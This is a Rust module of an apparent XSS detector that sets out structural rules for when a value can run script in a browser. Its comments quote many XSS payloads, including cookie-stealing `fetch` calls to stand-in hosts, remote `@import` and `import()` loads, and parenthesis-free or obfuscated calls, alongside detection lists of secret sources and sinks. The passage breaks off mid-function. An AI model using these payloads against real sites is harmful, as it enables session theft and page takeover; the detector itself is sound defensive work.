//! What a value must hold for a browser to run script from it, judged on
//! the decoded value before the XSS model.
//!
//! The model scores how much a value looks like the XSS it was trained on.
//! Structural facts settle cases where resemblance misleads it:
//!
//! - [`script_capable`]: without an element, an event-handler attribute, a
//!   script URL scheme, a call (of a function a page has without defining
//!   it, or of an expression: see [`paren_call_counts`]) or an assignment
//!   to a script sink, nothing can run: the value is cleared (`Meeting moved: 3pm -> 4pm`,
//!   `x=1; y=2; z=x+y`, `Room 12 (second floor)`). Markup counts even when
//!   it runs nothing by itself (`<a href="https://...">`, `<h1>`, `</a>`): the
//!   data sets label such HTML injection as XSS, and telling a rich-text
//!   field from a search box is the application's knowledge, not the value's.
//!   A tag no markup language has, without attribute values (`<vector>`,
//!   `List<String>`, `Map<K, V>`, `<your email>`), is inert unless a quote that leaves
//!   an attribute for markup comes before it (see [`breakout_quote`]).
//! - [`script_data_url`]: a `data:` URL of a scriptable media type is a
//!   page of the attacker's, whatever its payload.
//! - [`script_element`], [`scripted_element`]: a `<script` element, or an
//!   element with an event-handler attribute (`<x onpointerenter=...>`) or
//!   a script URL in a URL attribute (`<iframe src="javascript:...">`),
//!   runs whatever code it holds: such a value is XSS whatever the model
//!   makes of its code (a script body unlike the `alert(1)` of the training
//!   lists scored 0.2-0.3, as did `<x onxxx=1` from a model trained without
//!   the PayloadsAllTheThings lists).
//! - [`runs_code_or_reads_secrets`]: a call of `eval`, `Function`,
//!   `setTimeout`... with an expression, a dynamic `import(` of a URL, an
//!   event handler given `alert` or `eval` (`onerror=alert;throw 1`), or
//!   `document.cookie`, `localStorage`... read where something is called or
//!   assigned, is script whatever it calls (`fetch('//x/'+document.cookie)`
//!   0.09).
//! - [`handler_breakout`]: an event-handler attribute added after a quote
//!   that closes an attribute value (`" onfocus="(open)('//x')`) runs its
//!   value, whatever it calls.
//! - [`string_breakout_call`]: a quote that closes a JavaScript string,
//!   an operator or `;`, then a call (`'-fetch('//x/'+document.cookie)-'`,
//!   `x');new Image().src=...`) is code in a script context, whatever it
//!   calls (0.10-0.55 from the model for calls other than `alert`).

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use super::NextMatch;

/// URL schemes that run script where a URL is followed.
const SCRIPT_SCHEMES: &[&[u8]] = &[
    b"javascript",
    b"vbscript",
    b"livescript",
    b"mocha",
    b"mhtml",
    b"data",
];

/// Names whose assignment runs or loads script without a call:
/// `location=name`, `x.innerHTML=...`, `onerror=alert`.
const SINKS: &[&[u8]] = &[
    b"location",
    b"innerhtml",
    b"outerhtml",
    b"srcdoc",
    b"cookie",
];

/// Whether a browser could run script from this value (see the module doc).
/// False clears the value for XSS.
pub fn script_capable(v: &str) -> bool {
    let b = v.as_bytes();
    // Markup after a quote that breaks out of an attribute: there any tag
    // counts (the XSS locator `'';!--"<crosssitescripting>=&{()}`, `"><x>`).
    // Before such a quote it cannot be (`<chesty> fixed it, "XEmacs" said`,
    // an IRC log: 0.80); a quote after an inert tag that breaks out and
    // adds a handler is judged by the handler rules.
    // Not a backquote: only old Internet Explorer quoted attributes with
    // it, and an inert tag stays inert after such a breakout; Markdown's
    // inline code (`` `Vec<u8>` ``) is where backquotes are.
    let breakout = breakout_quote(b);
    // The tag name that runs through the current `<` (see [`junk_tag`]),
    // kept from `<` to `<`: read again at each, a value of `<!--` repeated
    // cost its length squared.
    let mut name_span = NameSpan::default();
    // The names the value assigns, found once for all its backquotes.
    let mut assigned = None;
    // The next `>`, kept from tag to tag (see [`autolink`]).
    let mut next_gt = NextMatch::new(b">");
    let mut next_eq = NextMatch::new(b"=");
    for (i, &c) in b.iter().enumerate() {
        let quoted = breakout < i;
        let found = match c {
            // Any markup (an element, a closing tag that breaks out of one,
            // a comment, a declaration), even one that runs nothing by
            // itself: markup in a parameter is what the model was trained
            // to judge (see the module doc).
            b'<' => {
                b.get(i + 1)
                    .is_some_and(|&c| c.is_ascii_alphabetic() || matches!(c, b'/' | b'!' | b'?'))
                    && (quoted || !inert_tag(b, i, &mut next_gt, &mut next_eq))
                    && !junk_tag(b, i, &mut name_span)
            }
            b'(' => callee_before(b, i) && paren_call_counts(b, i, &mut assigned),
            b'`' => callee_before(b, i) && template_tag_counts(b, i, &mut assigned),
            b'=' => {
                b.get(i + 1) != Some(&b'=')
                    && !matches!(b.get(i.wrapping_sub(1)), Some(b'!' | b'<' | b'>' | b'='))
                    && assigns_sink(b, i)
            }
            b':' => scheme_before(b, i, SCRIPT_SCHEMES),
            _ => false,
        };
        if found {
            return true;
        }
    }
    false
}

/// The index of the first quote that may close an attribute value so that
/// markup follows (`b.len()` when none): one followed by `<` (the
/// locator's `"<XSS>`, `'<x>`), or by `>` after white space or `/` only
/// (`"><x>`, `' /><x>`), which closes the element. After any other quote a
/// tag is not markup of the page even if the quote closed an attribute
/// value: up to the next `>` it is an odd attribute name of the same
/// element, and past that `>` an inert tag runs nothing (event handlers
/// and script elements are judged by their own rules). Quotations and
/// apostrophes are such quotes (`she wrote: "it's <fine>"` 0.98, `the
/// "best" <product> ever` 1.0 to the model).
fn breakout_quote(b: &[u8]) -> usize {
    memchr::memchr2_iter(b'\'', b'"', b)
        .find(|&q| {
            let rest = &b[q + 1..];
            rest.first() == Some(&b'<')
                || rest
                    .iter()
                    .find(|c| !(c.is_ascii_whitespace() || **c == b'/'))
                    == Some(&b'>')
        })
        .unwrap_or(b.len())
}

/// Whether the tag at `lt` is an element neither HTML nor SVG nor MathML
/// knows (no hyphen, so no custom element either), without attributes or
/// with bare ones only (no `=` before the tag's `>`), closed by `>`:
/// `<vector>`, `<unknown>`, `List<String>`, `</T>`, placeholders of
/// templates people paste, `<your email>`, `<insert name here>`,
/// `<order_id>` (0.71-0.997), and type parameters (`Map<K, V>` 0.90,
/// `<T extends Comparable<T>>` 0.65). A browser makes an
/// empty inline element of it, which shows, loads and runs nothing: an
/// attribute without a value holds no script or URL. The tag is read as the
/// browser's tokenizer reads it: the name runs to white space, `/` or `>`
/// (`<K,` names `k,`), and any byte but those and `=` may make an
/// attribute's name (`Comparable<T`); only a `=` gives an attribute a value,
/// and without one no quote can hide a `>`. Asked only of tags before the
/// value's first breakout quote (see [`breakout_quote`]).
fn inert_tag(b: &[u8], lt: usize, next_gt: &mut NextMatch, next_eq: &mut NextMatch) -> bool {
    let mut j = lt + 1;
    if b.get(j) == Some(&b'/') {
        j += 1;
    }
    let start = j;
    // Bounded: a name runs through any `<` (`<a<a<a...`), and read again at
    // each one a long one would cost its length squared. A longer name is
    // judged as markup.
    while b
        .get(j)
        .is_some_and(|&c| !(c.is_ascii_whitespace() || matches!(c, b'/' | b'>')))
        && j - start < MAX_INERT_NAME
    {
        j += 1;
    }
    let name = &b[start..j];
    // Not `-`, which makes a custom element, one a page's script may define.
    if name.is_empty()
        || !name[0].is_ascii_alphabetic()
        || name.contains(&b'-')
        || j - start == MAX_INERT_NAME
        || is_html_element(name)
    {
        return false;
    }
    // A prefixed name (`svg:svg`, `xsl:template`) is an element of another
    // namespace in an XHTML page: markup, unless a link Markdown or Slack
    // writes. A name whose colon makes no prefixed name (`T:` in `fn
    // f<T: Clone>`, `std::string,`) is no element of XML's, and in HTML an
    // unknown one like any other.
    if let Some(colon) = name.iter().position(|&c| c == b':') {
        if start == lt + 1 && autolink(&name[..colon], b, start + colon + 1, next_gt) {
            return true;
        }
        if qualified_name(name, colon) {
            return false;
        }
    }
    let Some(end) = next_gt.find(b, j) else {
        return false;
    };
    next_eq.find(b, j).is_none_or(|eq| eq > end)
}

/// Whether `name`, with its first colon at `colon`, is a prefixed name of
/// XML (`svg:svg`, `xsl:template`, `x-y.z:a_b`): one colon, a name of
/// letters, digits, `_`, `-` or `.` on each side, each starting with a
/// letter or `_`.
fn qualified_name(name: &[u8], colon: usize) -> bool {
    let part = |p: &[u8]| {
        p.first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && p.iter()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
    };
    part(&name[..colon]) && part(&name[colon + 1..])
}

/// The longest tag name [`inert_tag`] reads.
const MAX_INERT_NAME: usize = 64;

/// Whether `<scheme:rest` is a Markdown autolink (`<https://github.com/r-efi>`,
/// `<mailto:jane@example.com>`, 0.99 to the model) or a link as Slack
/// writes one (`<https://example.com|Click here>`, 0.999): a browser makes
/// an unknown element of it, named `https:`, whose attributes are pieces of
/// the URL and words; none holds a value without a `=`, so with no quote
/// up to the closing `>` and no `=` but one that names a query's parameter
/// (see [`query_value_only`]) it runs and loads nothing.
fn autolink(scheme: &[u8], b: &[u8], from: usize, next_gt: &mut NextMatch) -> bool {
    let known = [&b"http"[..], b"https", b"mailto"]
        .iter()
        .any(|s| scheme.eq_ignore_ascii_case(s));
    let Some(end) = next_gt.find(b, from) else {
        return false;
    };
    let link = &b[from..end];
    known
        && end > from
        && !link
            .iter()
            .any(|&c| matches!(c, b'<' | b'"' | b'\'' | b'`'))
        && query_value_only(link)
}

/// Whether the `=` of a link in angle brackets, if it has one, gives a
/// value only to an attribute no element or page reads: a link with a
/// query (`<https://www.youtube.com/watch?v=dQw4w9WgXcQ>`, an HTTP `Link`
/// header's `<https://api.example/items?page=2>; rel="next"`: 0.96 and
/// 0.9996 to the model). A browser splits the URL into attributes at each
/// `/` and white space; the one before the first `=` is named from the
/// last `/` on, so it holds the `?` (`watch?v`), no attribute of HTML, and
/// its unquoted value runs to white space or `>`: with none in the link,
/// every later `=` and `/` is inside that value. A link with a space, or
/// whose first `=` is in a path segment of its own
/// (`<https://x/onclick=alert(1)>`, `<https://x/?a/onclick=alert(1)>`),
/// is markup.
fn query_value_only(link: &[u8]) -> bool {
    let Some(eq) = memchr::memchr(b'=', link) else {
        return true;
    };
    let name = link[..eq]
        .iter()
        .rposition(|&c| c == b'/')
        .map_or(&link[..eq], |p| &link[p + 1..eq]);
    name.contains(&b'?') && !link.iter().any(u8::is_ascii_whitespace)
}

/// Whether the `<` at `lt` starts a tag whose name holds a byte no element
/// name has and that ends the value or a `>` without a space or `/` before
/// it: an e-mail address in angle brackets, as mail headers write a
/// recipient (`Jane Doe <jane@example.com>`, 0.97-0.997 to the XSS model),
/// or the middle of a password over every printable symbol (`<t$L%u3cvC&&`,
/// `<F4T'&Y`, 0.71-0.99). A browser makes an unknown element of it, and
/// nothing of the value can become an attribute of that element: an
/// attribute needs a space or a `/` after the name. This holds whatever
/// quotes the value holds elsewhere (those are judged as they are); what
/// follows a `>` is judged as any other markup.
///
/// `span` is the name of an earlier tag, kept: a name runs through any `<`
/// (`<a<b>` names `a<b`), so for a `<` inside it the name ends at the same
/// place, and holds a byte of no element name if the earlier one holds one
/// after that `<`.
fn junk_tag(b: &[u8], lt: usize, span: &mut NameSpan) -> bool {
    if span.end <= lt {
        let start = lt + 1;
        let len = b[start..]
            .iter()
            .position(|c| c.is_ascii_whitespace() || matches!(c, b'/' | b'>'))
            .unwrap_or(b.len() - start);
        span.end = start + len;
        span.last_junk = b[start..span.end]
            .iter()
            .rposition(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b':' | b'.')))
            .map(|p| start + p);
    }
    b.get(span.end).is_none_or(|c| *c == b'>') && span.last_junk.is_some_and(|j| j > lt)
}

/// A tag name's end and its last byte of no element name (see [`junk_tag`]).
#[derive(Default)]
struct NameSpan {
    end: usize,
    last_junk: Option<usize>,
}

/// The elements of HTML, current and obsolete, as browsers parse them.
const HTML_ELEMENTS: &str =
    "a abbr acronym address applet area article aside audio b base basefont \
    bdi bdo bgsound big blink blockquote body br button canvas caption \
    center cite code col colgroup data datalist dd del details dfn dialog \
    dir div dl dt em embed fieldset figcaption figure font footer form \
    frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe \
    image img input ins isindex kbd keygen label legend li link listing \
    main map mark marquee math menu menuitem meta meter multicol nav \
    nextid nobr noembed noframes noscript object ol optgroup option output \
    p param picture plaintext portal pre progress q rb rp rt rtc ruby s \
    samp script search section select slot small source spacer span strike \
    strong style sub summary sup svg table tbody td template textarea \
    tfoot th thead time title tr track tt u ul var video wbr xmp";

/// The elements of SVG and MathML not in [`HTML_ELEMENTS`]: inside an
/// `<svg>` or `<math>` of the page, a bare `<feImage>` or `<maction>` is not
/// inert (lines of the XSS lists).
const SVG_MATHML_ELEMENTS: &str =
    "animate animateMotion animateTransform circle clipPath defs desc \
    discard ellipse feBlend feColorMatrix feComponentTransfer feComposite \
    feConvolveMatrix feDiffuseLighting feDisplacementMap feDistantLight \
    feDropShadow feFlood feFuncA feFuncB feFuncG feFuncR feGaussianBlur \
    feImage feMerge feMergeNode feMorphology feOffset fePointLight \
    feSpecularLighting feSpotLight feTile feTurbulence filter \
    foreignObject g hatch hatchpath line linearGradient marker mask \
    metadata mpath path pattern polygon polyline radialGradient rect set \
    stop switch symbol text textPath tspan use view maction maligngroup \
    malignmark menclose merror mfenced mfrac mglyph mi mlabeledtr mlongdiv \
    mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms \
    mscarries mscarry msgroup msline mspace msqrt msrow mstack mstyle msub \
    msubsup msup mtable mtd mtext mtr munder munderover none semantics \
    annotation";

pub(super) fn is_html_element(name: &[u8]) -> bool {
    // A set made once: splitting the two lists at each tag cost 40,000
    // instructions a `<` (callgrind, a value of `<x:` repeated).
    static ELEMENTS: OnceLock<HashSet<Vec<u8>>> = OnceLock::new();
    let set = ELEMENTS.get_or_init(|| {
        HTML_ELEMENTS
            .split(' ')
            .chain(SVG_MATHML_ELEMENTS.split(' '))
            .filter(|e| !e.is_empty())
            .map(|e| e.to_ascii_lowercase().into_bytes())
            .collect()
    });
    let mut lower = [0u8; 32];
    name.len() <= lower.len() && {
        let lower = &mut lower[..name.len()];
        lower.copy_from_slice(name);
        lower.make_ascii_lowercase();
        set.contains(&lower[..])
    }
}

/// Whether the value opens a `<script` element (`<script>`, `<script
/// src=...>`, `<script/x>`, at the end of the value).
pub fn script_element(v: &str) -> bool {
    let b = v.as_bytes();
    memchr::memchr_iter(b'<', b).any(|i| {
        let rest = &b[i + 1..];
        rest.len() >= 6
            && rest[..6].eq_ignore_ascii_case(b"script")
            && rest
                .get(6)
                .is_none_or(|&c| c == b'>' || c == b'/' || c.is_ascii_whitespace())
    })
}

/// Media types a browser runs script in, when a `data:` URL of that type
/// is loaded in a frame, an object or a link target.
const SCRIPT_MEDIA_TYPES: &[&[u8]] = &[
    b"text/html",
    b"application/xhtml+xml",
    b"text/javascript",
    b"application/javascript",
    b"application/x-javascript",
    b"text/ecmascript",
    b"application/ecmascript",
    b"text/vbscript",
];

/// Whether the value holds a `data:` URL of a scriptable media type
/// (`data:text/html;base64,...`). Such a URL is a page of the attacker's
/// in a parameter whatever its payload says, and its payload may be out of
/// reach of any content check (base64 mangled by a lower-casing filter,
/// a charset such as UTF-7), so the media type alone decides. Image and
/// SVG data URLs are not listed: their decoded content is judged instead.
pub fn script_data_url(v: &str) -> bool {
    let b = v.as_bytes();
    memchr::memchr_iter(b':', b).any(|i| {
        if i < 4 || !b[i - 4..i].eq_ignore_ascii_case(b"data") {
            return false;
        }
        if i > 4 && b[i - 5].is_ascii_alphanumeric() {
            return false;
        }
        // `data:[<media type>][;param]*,<data>`: a URL has its comma, and
        // its header no space inside (prose such as `data: text/html is
        // served, ...` is not a URL).
        let rest = &b[i + 1..];
        let Some(comma) = rest.iter().take(128).position(|&c| c == b',') else {
            return false;
        };
        let header = rest[..comma].trim_ascii();
        if header.iter().any(u8::is_ascii_whitespace) {
            return false;
        }
        let media = header.split(|&c| c == b';').next().unwrap_or(b"");
        SCRIPT_MEDIA_TYPES
            .iter()
            .any(|t| media.eq_ignore_ascii_case(t))
    })
}

/// Whether the value is a script URL that runs nothing, as link fields
/// hold one for a menu entry a page's script opens: `javascript:void(0)`
/// (0.9992 to the model), `javascript:void 0`, `javascript:;`, each with
/// an optional `;` and any case. `void` of the number 0 evaluates nothing
/// else; a URL with any other code (`javascript:void(alert(1))`,
/// `javascript:void(0);alert(1)`) is not one.
pub fn inert_script_url(v: &str) -> bool {
    let b = v.trim().as_bytes();
    let Some(code) = b
        .get(..11)
        .filter(|s| s.eq_ignore_ascii_case(b"javascript:"))
        .map(|_| b[11..].trim_ascii())
    else {
        return false;
    };
    let code = code.strip_suffix(b";").unwrap_or(code).trim_ascii_end();
    code.is_empty() || code.eq_ignore_ascii_case(b"void(0)") || code.eq_ignore_ascii_case(b"void 0")
}

/// Whether the value opens a `<style>` element that loads a stylesheet or
/// a font from another origin (`<style>@import '//evil.example/x.css'`,
/// `<style>@font-face{src:url(https://evil.example/f)}`): the page then
/// applies the attacker's rules, which read its attributes out through
/// selectors (`input[value^=a]{background:url(//evil.example/a)}`) and
/// restyle it; the model blocked `<link rel=stylesheet href=//...>` (1.0)
/// and scored the same load through `<style>` 0.56. A relative URL
/// (`url(/img/bg.png)`) and a `data:` URL load nothing from elsewhere and
/// are left to the model.
pub fn style_from_elsewhere(v: &str) -> bool {
    let b = v.as_bytes();
    let Some(open) = memchr::memchr_iter(b'<', b).find(|&i| {
        b.get(i + 1..i + 6)
            .is_some_and(|w| w.eq_ignore_ascii_case(b"style"))
            && b.get(i + 6)
                .is_none_or(|&c| c.is_ascii_whitespace() || matches!(c, b'>' | b'/'))
    }) else {
        return false;
    };
    let css = &b[open + 6..];
    memchr::memchr2_iter(b'@', b'(', css).any(|i| {
        let arg = if css[i] == b'@' {
            if !css
                .get(i + 1..i + 7)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"import"))
            {
                return false;
            }
            let mut j = skip_space(css, i + 7);
            if css
                .get(j..j + 4)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"url("))
            {
                j = skip_space(css, j + 4);
            }
            j
        } else {
            if i < 3 || !css[i - 3..i].eq_ignore_ascii_case(b"url") {
                return false;
            }
            skip_space(css, i + 1)
        };
        let url = match css.get(arg) {
            Some(b'"' | b'\'') => &css[arg + 1..],
            _ => &css[arg..],
        };
        url.starts_with(b"//")
            || url.starts_with(b"\\\\")
            || [&b"http:"[..], b"https:"].iter().any(|s| {
                url.get(..s.len())
                    .is_some_and(|w| w.eq_ignore_ascii_case(s))
            })
    })
}

/// Whether the value holds an element with an event-handler attribute
/// (`<img src=x onerror=...>`, `<x/onfocus=...`, `<x 1='1'onxxx=1`) or a
/// URL attribute whose value is a script URL (`<iframe src="javascript:...">`,
/// `<a href=" java&Tab;script:...">` once decoded), read
/// as a browser reads attributes: quoted values skipped (a `<` inside one
/// opens no element), `/` and quotes as separators. Each byte is read once:
/// the next element is looked for where the last one ended.
pub fn scripted_element(v: &str) -> bool {
    let b = v.as_bytes();
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'<', &b[from..]) {
        match scan_tag(b, from + p) {
            TagScan::Scripted => return true,
            TagScan::EndsAt(e) => from = e,
        }
    }
    false
}

enum TagScan {
    /// An event-handler attribute, or a script URL in a URL attribute.
    Scripted,
    /// Where to look for the next element (always past the `<`).
    EndsAt(usize),
}

fn scan_tag(b: &[u8], lt: usize) -> TagScan {
    let mut j = lt + 1;
    if !b.get(j).is_some_and(u8::is_ascii_alphabetic) {
        return TagScan::EndsAt(j);
    }
    while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'-' | b':')) {
        j += 1;
    }
    loop {
        while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
            j += 1;
        }
        match b.get(j) {
            None => return TagScan::EndsAt(b.len()),
            Some(b'>') => return TagScan::EndsAt(j + 1),
            Some(b'<') => return TagScan::EndsAt(j),
            Some(_) => {}
        }
        let start = j;
        while j < b.len()
            && !b[j].is_ascii_whitespace()
            && !matches!(b[j], b'=' | b'>' | b'<' | b'/' | b'"' | b'\'')
        {
            j += 1;
        }
        let name = &b[start..j];
        j = skip_space(b, j);
        if b.get(j) == Some(&b'=') {
            if is_handler_name(name) {
                return TagScan::Scripted;
            }
            j = skip_space(b, j + 1);
            let (value_at, value_end) = attribute_value(b, j);
            if is_url_attribute(name) && script_url_at(b, value_at) {
                return TagScan::Scripted;
            }
            // Past the closing quote of a quoted value.
            j = value_end + usize::from(value_at > j);
        } else if name.is_empty() {
            // A stray quote: step over it.
            j += 1;
        }
    }
}

/// Functions that run text as code: a call of one with an expression as
/// its argument is script whatever the expression (`eval(atob('...'))`,
/// `new Function(location.hash.slice(1))()`). A single name as the argument
/// is left to the model (`eval(name)` is a payload, but `<code>eval(is)</code>`
/// is how the generated benign corpus writes about code), and so is
/// `import(`, a word of prose too, unless it loads a URL ([`imports_a_url`]).
const CODE_RUNNERS: &[&[u8]] = &[
    b"eval",
    b"Function",
    b"setTimeout",
    b"setInterval",
    b"execScript",
];

/// What a script reads to steal a session: with a call or an assignment in
/// the same value (`fetch('//x/'+document.cookie)`, `new Image().src=...`).
const SECRETS: &[&[u8]] = &[
    b"document.cookie",
    b"document.domain",
    b"localStorage",
    b"sessionStorage",
];

/// Whether the value, as JavaScript, runs text as code (`eval`,
/// `Function`, `setTimeout`, `setInterval` or `execScript` called with an
/// expression) or reads `document.cookie`, `document.domain`,
/// `localStorage` or `sessionStorage` where it also calls or assigns
/// something: the model scored such bare script 0.03-0.47 when it
/// called nothing like `alert` (`models/handwritten/xss-bare-js.txt`).
/// Names are matched as JavaScript spells them (case matters), whole, with
/// the `(` right after a code runner's name. Also a dynamic import of a URL,
/// a builtin handed to a handler, a tagged dialog, a call through an alias
/// and a call of a global's member by a name the value builds.
pub fn runs_code_or_reads_secrets(v: &str) -> bool {
    let b = v.as_bytes();
    let expression_at = |i: usize| {
        let start = skip_space(b, i);
        let mut j = start;
        while j < b.len() && is_identifier_byte(b[j]) {
            j += 1;
        }
        // Not `()`, nor a single name.
        b.get(start).is_some_and(|&c| c != b')')
            && !(j > start && b.get(skip_space(b, j)) == Some(&b')'))
    };
    let runs_code = CODE_RUNNERS.iter().any(|w| {
        memchr::memmem::find_iter(b, w).any(|i| {
            word_at(b, i, w) && b.get(i + w.len()) == Some(&b'(') && expression_at(i + w.len() + 1)
        })
    });
    if runs_code
        || imports_a_url(b)
        || hands_a_builtin_to_a_handler(b)
        || tags_a_dialog(b)
        || calls_an_alias(b)
        || calls_a_built_global_member(b)
    {
        return true;
    }
    let reads_secret = SECRETS
        .iter()
        .any(|w| memchr::memmem::find_iter(b, w).any(|i| word_at(b, i, w)));
    reads_secret
        && b.iter().enumerate().any(|(i, &c)| match c {
            b'(' => callee_before(b, i),
            b'=' => {
                b.get(i + 1) != Some(&b'=') && identifier_before(b, skip_space_back(b, i)).is_some()
            }
            _ => false,
        })
}

/// Whether the value assigns one of the page's dialogs, code runners or
/// other functions that run, load or write ([`harmful_tag`]) to a name and
/// then calls that name (`x=alert;x(1)`, ``x=top.eval;x`alert\x281\x29` ``:
/// 0.30-0.35 to the model, which caught `a=alert,a(1)`): an alias hides the
/// function from a reader that looks for its call.
fn calls_an_alias(b: &[u8]) -> bool {
    // Where each name is last called, found once the first harmful
    // assignment is (looked for after each, a value of `x=alert;` repeated
    // cost its length squared).
    let mut calls: Option<HashMap<&[u8], usize>> = None;
    assignments(b).any(|(eq, alias)| {
        let start = skip_space(b, eq + 1);
        let mut end = start;
        while end < b.len() && (is_identifier_byte(b[end]) || b[end] == b'.') {
            end += 1;
        }
        let path = &b[start..end];
        let function = path.rsplit(|&c| c == b'.').next().unwrap_or(path);
        !function.is_empty()
            && harmful_tag(function, b"")
            && calls
                .get_or_insert_with(|| last_calls(b))
                .get(alias)
                .is_some_and(|&at| at >= end)
    })
}

/// The globals every function of a page is a member of.
const GLOBALS: [&[u8]; 8] = [
    b"window",
    b"self",
    b"top",
    b"parent",
    b"frames",
    b"opener",
    b"globalThis",
    b"this",
];

/// Whether the value calls a member of the window, or of a global that
/// reaches it, whose name it builds (`top['al'+'ert'](1)`,
/// ``window[`al`+`ert`](1)``, `self[atob('YWxlcnQ=')](1)`,
/// `top[/al/.source+/ert/.source](1)`): a page calls its own functions by
/// their names; a name put together at run time is there to hide the
/// function from whoever looks for it (``window[`al`+`ert`](1)`` 0.27 to
/// the model). A plain key (`frames[0]`, `this[method](x)`, `window['x']`)
/// is left to the model. The key is looked at up to 256 bytes, so a value of
/// many `window[` costs its length times that at most.
fn calls_a_built_global_member(b: &[u8]) -> bool {
    memchr::memchr_iter(b'[', b).any(|open| {
        if !name_before(b, open).is_some_and(|n| GLOBALS.contains(&n)) {
            return false;
        }
        let mut depth = 0usize;
        let end = b.len().min(open + 256);
        let Some(close) = (open..end).find(|&i| {
            match b[i] {
                b'[' => depth += 1,
                b']' => depth -= 1,
                _ => {}
            }
            depth == 0
        }) else {
            return false;
        };
        let built = b[open + 1..close]
            .iter()
            .any(|&c| matches!(c, b'+' | b'`' | b'('));
        built && matches!(b.get(skip_space(b, close + 1)), Some(b'(' | b'`'))
    })
}

/// For each name `b` calls (the whole identifier before a `(` or a
/// backquote, blanks between), where its last call starts.
fn last_calls(b: &[u8]) -> HashMap<&[u8], usize> {
    let mut last = HashMap::new();
    for p in memchr::memchr2_iter(b'(', b'`', b) {
        if let Some(name) = name_before(b, p) {
            last.insert(name, skip_space_back(b, p) - name.len());
        }
    }
    last
}

/// Names through which script without quotes, `=`, brackets or spaces
/// reaches something that matters, beside the [`DIALOGS`] and
/// [`CODE_RUNNERS`]: the objects that lead to the page, its storage and the
/// network, script URL schemes, and jQuery's and lodash's one-letter
/// globals (when called or read from).
const PAGE_NAMES: &[&[u8]] = &[
    b"constructor",
    b"import",
    b"open",
    b"fetch",
    b"document",
    b"window",
    b"top",
    b"self",
    b"parent",
    b"frames",
    b"opener",
    b"globalThis",
    b"this",
    b"location",
    b"cookie",
    b"domain",
    b"localStorage",
    b"sessionStorage",
    b"indexedDB",
    b"navigator",
    b"sendBeacon",
    b"postMessage",
    b"XMLHttpRequest",
    b"WebSocket",
    b"EventSource",
    b"Image",
    b"Worker",
    b"Reflect",
    b"write",
    b"writeln",
    b"innerHTML",
    b"outerHTML",
    b"srcdoc",
    b"insertAdjacentHTML",
    b"createElement",
    b"appendChild",
    b"body",
    b"head",
    b"String",
    b"fromCharCode",
    b"atob",
    b"unescape",
    b"decodeURI",
    b"decodeURIComponent",
    b"history",
    b"jQuery",
    b"$",
    b"_",
    b"javascript",
    b"vbscript",
    b"livescript",
    b"mocha",
    b"mhtml",
    b"data",
];

/// Whether the value is a generated secret as a password generator writes
/// it (`7!BsAIue(zaqnzr^_`, `MPH!W(ek+54#D`: 0.92-0.95 to the XSS model,
/// for the call a `(` after a name looks like), naming none of the
/// [`DIALOGS`], [`CODE_RUNNERS`] or [`PAGE_NAMES`] (compared whole and
/// case-blind: more than JavaScript, which would call no `ALERT`). Such a value can only be script in a script context, bare
/// (it has no quote to leave a string, no `<` to open a tag, no `=` to set
/// an attribute); there, without any of those names, what it calls is a
/// name the page does not define, and the call throws before anything runs.
pub(super) fn inert_secret(v: &str) -> bool {
    let b = v.as_bytes();
    if !(8..=128).contains(&b.len()) || !b.iter().all(|&c| super::token::token_byte(c)) {
        return false;
    }
    let mut start = 0;
    while start < b.len() {
        let end = start
            + b[start..]
                .iter()
                .take_while(|&&c| is_identifier_byte(c))
                .count();
        let w = &b[start..end];
        // `$` and `_` end many secrets (`...zqnzr^_`): as jQuery and lodash
        // they matter only when called or read from.
        let one_letter = matches!(w, b"$" | b"_");
        let used = !one_letter || matches!(b.get(end), Some(b'(' | b'.'));
        if used
            && DIALOGS
                .iter()
                .chain(CODE_RUNNERS)
                .chain(PAGE_NAMES)
                .any(|n| w.eq_ignore_ascii_case(n))
        {
            return false;
        }
        start = end + 1;
    }
    true
}

/// A dynamic `import(` of a URL of another origin or of inline code
/// (`import('//x.example/m.js')`, `import("data:text/javascript,...")`):
/// the module runs on load (0.0008 to the model). A relative path
/// (`import('./utils.js')`) is left to the model, as code people paste.
fn imports_a_url(b: &[u8]) -> bool {
    memchr::memmem::find_iter(b, b"import").any(|i| {
        if i > 0 && is_identifier_byte(b[i - 1]) {
            return false;
        }
        let open = skip_space(b, i + 6);
        if b.get(open) != Some(&b'(') {
            return false;
        }
        let q = skip_space(b, open + 1);
        if !matches!(b.get(q), Some(b'\'' | b'"' | b'`')) {
            return false;
        }
        let url = &b[q + 1..];
        url.starts_with(b"//")
            || ["http:", "https:", "data:", "blob:"]
                .iter()
                .any(|s| url.len() >= s.len() && url[..s.len()].eq_ignore_ascii_case(s.as_bytes()))
    })
}

/// The browser's dialogs: what a proof of XSS calls.
const DIALOGS: [&[u8]; 4] = [b"alert", b"confirm", b"prompt", b"print"];

/// A dialog called as a tagged template, bare or in parentheses
/// (`` confirm`1` ``, `` x=(confirm)`1` ``: 0.34 to the model): a way to call
/// it without parentheses, which prose has no use for.
fn tags_a_dialog(b: &[u8]) -> bool {
    memchr::memchr_iter(b'`', b).any(|i| {
        let end = if i > 0 && b[i - 1] == b')' { i - 1 } else { i };
        identifier_before(b, end).is_some_and(|w| {
            let start = end - w.len();
            let parenthesized = end < i;
            let open = if parenthesized {
                start.checked_sub(1)
            } else {
                Some(start)
            };
            // A name inside backticks is Markdown's inline code (`` `alert` ``).
            DIALOGS.contains(&w)
                && open.is_some_and(|o| {
                    (!parenthesized || b[o] == b'(') && (o == 0 || b[o - 1] != b'`')
                })
        })
    })
}

/// An event handler given a built-in function that needs no argument of
/// the attacker's to do harm (`onerror=alert;throw 1`, `{onerror=eval}throw
/// '=alert\x281\x29'`): the browser calls it when the event fires, and
/// `throw` fires `onerror` at once, with no parenthesis in the value (0.05
/// to the model).
fn hands_a_builtin_to_a_handler(b: &[u8]) -> bool {
    memchr::memchr_iter(b'=', b).any(|i| {
        if matches!(b.get(i + 1), Some(b'=' | b'>')) {
            return false;
        }
        let end = skip_space_back(b, i);
